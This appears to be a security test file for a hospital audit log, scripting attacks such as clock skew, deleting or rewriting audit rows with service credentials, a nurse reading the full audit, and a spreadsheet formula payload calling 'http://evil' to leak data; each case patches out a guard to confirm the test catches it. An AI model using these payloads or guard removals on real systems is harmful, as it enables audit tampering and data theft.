import { randomUUID } from 'node:crypto'
import type pg from 'pg'
import { csvOf } from '../../../src-shared/audit/csv.ts'
import { unusualOf } from '../../../src-shared/audit/unusual.ts'
import { type Attack, type Result, repelled, succeeded } from '../attack.ts'

const table = 'server/platform/database/append-only.ts'
/** The right and the trigger: each alone would do. */
const unguarded = [
  { file: table, find: 'GRANT SELECT, INSERT ON', replace: 'GRANT ALL ON' },
  {
    file: table,
    find: 'CREATE OR REPLACE TRIGGER append_only BEFORE',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it becomes part of a template
    replace: 'DROP TRIGGER IF EXISTS append_only ON ${name}; --',
  },
]

async function tried(pool: pg.Pool | undefined, sql: string): Promise<Result> {
  try {
    const { rowCount } = (await pool?.query(sql)) ?? {}
    return rowCount ? succeeded(`${rowCount} entries of the audit are gone or changed`) : repelled('nothing was there')
  } catch (error) {
    return repelled((error as { code?: string }).code ?? String(error))
  }
}

export const attacks: readonly Attack[] = [
  {
    name: 'audit-clock-put-forward',
    what: 'puts the clock of a workstation forward, so that what he reads seems to belong to another shift',
    code: 'clock',
    defence: [
      { file: 'src-shared/audit/unusual.ts', find: 'at > receivedAt + AHEAD_MS', replace: 'at > at + AHEAD_MS' },
    ],
    async run() {
      const read = {
        key: 'k',
        at: 9 * 3_600_000,
        receivedAt: 3_600_000,
        actor: 'a',
        action: 'read.chart',
        patients: ['p'],
      }
      const found = unusualOf([read], { people: new Map(), patients: new Map(), wards: new Map() })
      const rule = found.get('k')?.[0]?.rule
      return rule ? repelled(rule) : succeeded('eight hours that nobody asks about')
    },
  },
  {
    name: 'audit-deleted-by-its-service',
    what: 'has the database password of the audit service, and deletes what he read',
    code: '42501',
    defence: unguarded,
    async run(target) {
      const { audit, facility } = await target.server()
      const values = [facility.id, randomUUID(), 'c', 'x']
      await audit.pool.query(
        `INSERT INTO link (facility_id, device_id, chain, seq, prev, hash, entry, received_at)
         VALUES ($1, $2, $3, 1, $4, $4, $4, 0)`,
        values,
      )
      return tried(audit.pool, 'DELETE FROM link')
    },
  },
  {
    name: 'audit-changed-by-its-service',
    what: 'has the database password of the ward service, and changes who is said to have written',
    code: '42501',
    defence: unguarded,
    async run(target) {
      const { services } = await target.server()
      return tried(services.get('ward')?.pool, `UPDATE audit SET entry = replace(entry, 'actorId', 'nobody')`)
    },
  },
  {
    name: 'audit-read-by-a-nurse',
    what: 'signs in as a nurse, and fetches the audit of the whole hospital',
    code: 'NOT_ALLOWED',
    defence: [
      {
        file: 'server/services/audit/index.ts',
        find: 'await requireAdministrator(authority, request)\n    return reply.type',
        replace: 'return reply.type',
      },
    ],
    async run(target) {
      const answer = await target.ask({ path: '/v1/audit/export', token: await target.signIn('nimali') })
      return answer.status === 200 ? succeeded('the audit of everybody') : repelled(answer.body.code)
    },
  },
  {
    name: 'audit-formula-in-a-spreadsheet',
    what: 'has a workstation report an action that is a formula, for the spreadsheet of the privacy officer',
    code: 'text',
    defence: [{ file: 'src-shared/audit/csv.ts', find: 'FORMULA.test(text)', replace: 'Boolean(!text && FORMULA)' }],
    async run() {
      const line = csvOf({
        ...{ of: 'workstation', device: 'd', chain: 'c', seq: 1, at: 0, receivedAt: 0, actor: null, behalf: null },
        ...{ action: '=HYPERLINK("http://evil/?"&A1)', subject: null, ward: null, patients: [], reason: null },
        status: null,
      })
      return /(^|,)"?=/.test(line) ? succeeded(line) : repelled('text')
    },
  },
]
